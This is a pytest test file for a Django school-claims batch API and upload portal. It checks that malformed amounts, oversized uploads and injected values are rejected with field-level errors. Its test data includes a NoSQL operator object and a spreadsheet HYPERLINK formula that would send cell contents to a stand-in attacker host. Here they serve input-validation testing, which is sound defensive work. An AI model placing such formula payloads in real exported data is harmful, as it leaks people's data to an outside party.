"""Bad input to the school batch API and the portal: a 400 or a per-row error naming the field, never a
500, and never silently accepted (issue 10 finding 4; issue 11 findings 6, 7, 10 and item 4)."""

import io

import pytest
from django.urls import reverse

from claims.models import Batch, Case
from tests.claims import test_school

row = test_school.row
schools = test_school.schools  # the fixture of test_school, reused here

pytestmark = pytest.mark.django_db
URL = "/api/v1/school/batches/"


def _post(api, rows, batch_id="bad-1"):
    response = api.post(URL, {"batch_id": batch_id, "cases": rows}, format="json")
    assert response.status_code == 201, response.content[:500]
    return response.json()["report"]


@pytest.mark.parametrize("amount", ["NaN", "Infinity", "-Infinity", "1e30", "1E+40", "-5", "1.001"])
def test_a_bad_amount_is_a_row_error_and_the_good_rows_are_kept(schools, amount):
    """Issue 10 finding 4: "NaN" as an amount raised InvalidOperation, rolled the batch back and answered 500."""
    a = schools["A"]
    bad = row(a["student"], "BAD-1")
    bad["invoices"][0]["class_a"] = amount
    report = _post(a["api"], [row(a["student"], "GOOD-1"), bad])
    assert [r["status"] for r in report] == ["accepted", "rejected"]
    assert report[1]["field"] == "invoices[0].class_a"
    assert Case.objects.count() == 1


@pytest.mark.parametrize(("key", "value", "field"), [
    ("institution_name", "医院\x00", "institution_name"),
    ("institution_name", "院" * 121, "institution_name"),
    ("institution_name", {"$gt": ""}, "institution_name"),
    ("name", ["学生A"], "name"),
    ("case_type", {"code": "accident"}, "case_type"),
    ("bank_account", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "bank_account"),
    ("service_from", "0001-01-01", "service_from"),
    ("service_from", "9999-12-31", "service_from"),
    ("lost_invoice_promise", "maybe", "lost_invoice_promise"),
    ("invoices", [], "invoices"),
    ("invoices", "none", "invoices"),
    ("attachments", "x", "attachments"),
])
def test_bad_values_are_refused_naming_the_field(schools, key, value, field):
    """Issue 11 findings 6 and 10: NUL bytes, over-long strings, objects where strings are expected, a formula as
    the bank account, service dates 0001-01-01 / 9999-12-31 and a case with no invoice were accepted or a 500."""
    a = schools["A"]
    report = _post(a["api"], [{**row(a["student"], "V-1"), key: value}])
    assert report[0]["status"] == "rejected" and report[0]["field"] == field, report
    assert Case.objects.count() == 0


@pytest.mark.parametrize(("value", "stored"), [("false", False), ("否", False), ("true", True), (True, True)])
def test_lost_invoice_promise_false_is_false(schools, value, stored):
    """Issue 11 finding 10: lost_invoice_promise "false" was stored as true."""
    a = schools["A"]
    report = _post(a["api"], [{**row(a["student"], "L-1"), "lost_invoice_promise": value}])
    assert report[0]["status"] == "accepted"
    assert Case.objects.get().lost_invoice_promise is stored


def test_an_object_as_batch_id_is_a_400(schools):
    a = schools["A"]
    response = a["api"].post(URL, {"batch_id": {"a": 1}, "cases": [row(a["student"])]}, format="json")
    assert response.status_code == 400 and response.json()["error"]["field"] == "batch_id"


def test_lists_are_paginated_and_the_batch_list_carries_no_reports(schools):
    """Issue 11 finding 7: GET /api/v1/school/batches/ returned every batch with its full report (212 MB)."""
    a = schools["A"]
    for i in range(3):
        _post(a["api"], [row(a["student"], f"P-{i}")], batch_id=f"p-{i}")
    body = a["api"].get(URL + "?page=1").json()
    assert body["count"] == 3 and len(body["results"]) == 3
    assert "report" not in body["results"][0]
    assert set(a["api"].get("/api/v1/school/cases/").json()) == {"count", "next", "previous", "results"}


def test_portal_upload_larger_than_the_limit_is_refused_before_it_is_read(schools, client, settings):
    """Issue 11 finding 7: a 50 MB CSV became a 492 064-row batch; uploads are limited (UPLOAD_MAX_BYTES)."""
    settings.UPLOAD_MAX_BYTES = 1024
    a = schools["A"]
    client.force_login(a["user"])
    content = "id_number,case_type,service_from,invoice_issuer,invoice_number,invoice_date\n" + "x,y,z,a,b,c\n" * 200
    upload = io.BytesIO(content.encode())
    upload.name = "big.csv"
    response = client.post(reverse("portal:upload"), {"file": upload})
    assert response.status_code == 200 and Batch.objects.count() == 0
    assert "MB" in response.content.decode()


def test_portal_upload_with_more_rows_than_the_limit_is_refused(schools, client, settings):
    settings.UPLOAD_MAX_ROWS = 5
    a = schools["A"]
    client.force_login(a["user"])
    content = "id_number,case_type,service_from,invoice_issuer,invoice_number,invoice_date\n" + "x,y,z,a,b,c\n" * 6
    upload = io.BytesIO(content.encode())
    upload.name = "rows.csv"
    response = client.post(reverse("portal:upload"), {"file": upload})
    assert response.status_code == 200 and Batch.objects.count() == 0


def test_portal_batch_page_shows_one_page_of_the_report(schools, client, settings):
    """Issue 11 finding 7: a portal batch page was 87 MB; the report is shown REPORT_PAGE_ROWS rows at a time."""
    settings.REPORT_PAGE_ROWS = 2
    a = schools["A"]
    _post(a["api"], [{**row(a["student"], f"R-{i}"), "row_id": f"rid-{i}", "case_type": "nope"} for i in range(5)])
    client.force_login(a["user"])
    page = client.get(reverse("portal:batch", args=[Batch.objects.get().pk])).content.decode()
    assert "rid-0" in page and "rid-1" in page and "rid-2" not in page
    page3 = client.get(reverse("portal:batch", args=[Batch.objects.get().pk]) + "?page=3").content.decode()
    assert "rid-4" in page3 and "rid-0" not in page3
